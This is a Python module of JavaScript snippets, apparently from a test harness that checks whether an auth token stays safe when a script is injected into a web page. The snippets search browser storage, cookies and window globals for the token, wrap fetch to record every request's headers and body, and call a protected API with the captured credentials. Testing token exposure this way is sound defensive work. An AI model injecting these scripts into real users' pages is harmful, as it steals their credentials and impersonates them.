"""The scripts run in the user's page: what an injected script reads, how it wraps fetch to
capture the user's next call, and how it calls the API as the user."""

# Every place a script of the page can look without knowing the page's code: the storages,
# the cookies it may read, and the window's globals a few levels down, their getters too
# (RegExp.input, RegExp.$_: the input of the last successful match, whatever string it was).
# The value sought is given, to observe whether the token is there; an attacker would take
# every string.
READ = """(token) => {
  const found = [];
  const look = (where, text) => {
    if (typeof text === "string" && text.includes(token)) found.push(where);
  };
  const storages = [["localStorage", localStorage], ["sessionStorage", sessionStorage]];
  for (const [name, storage] of storages) {
    for (let i = 0; i < storage.length; i++) {
      const key = storage.key(i);
      look(`${name}[${JSON.stringify(key)}]`, key + "\\n" + storage.getItem(key));
    }
  }
  look("document.cookie", document.cookie);
  const visited = new Set();
  let budget = 200000;
  const walk = (where, value, depth) => {
    if (budget-- <= 0 || value === null || value === undefined) return;
    if (typeof value === "string") return look(where, value);
    if (typeof value !== "object" && typeof value !== "function") return;
    if (depth === 0 || visited.has(value) || value === window || value instanceof Node) return;
    visited.add(value);
    let keys;
    try { keys = Object.getOwnPropertyNames(value); } catch (_) { return; }
    for (const key of keys) {
      let inner;
      try { inner = value[key]; } catch (_) { continue; } // a getter of a prototype throws
      // ... or answers a rejected promise: handled here, not reported as the page's error.
      if (inner instanceof Promise) inner.catch(() => {});
      walk(`${where}.${key}`, inner, depth - 1);
    }
  };
  for (const key of Object.getOwnPropertyNames(window)) {
    let value;
    try { value = window[key]; } catch (_) { continue; }
    walk(`window.${key}`, value, 3);
  }
  return found;
}"""

IN_PAGE_TEXT = "(token) => document.documentElement.textContent.includes(token)"

# Wrap fetch: every call the page makes from now on shows its URL, headers and body.
WRAP_FETCH = """() => {
  const original = window.fetch;
  const seen = [];
  window.fetch = function (input, init) {
    const request = new Request(input, init);
    const body = init && typeof init.body === "string" ? init.body : "";
    seen.push({ url: request.url, method: request.method, headers: [...request.headers], body });
    return original.apply(this, arguments);
  };
  Object.defineProperty(window, "__stolenRequests", { value: () => seen });
}"""

STOLEN = "() => window.__stolenRequests()"

# The API as the user: from the page's origin, with what was stolen, if anything, and the
# browser's own cookies.
USE = """async (authorization) => {
  const headers = { "X-Requested-With": "XMLHttpRequest" };
  if (authorization) headers.Authorization = authorization;
  const response = await fetch("/protected", { credentials: "include", headers });
  return response.status;
}"""
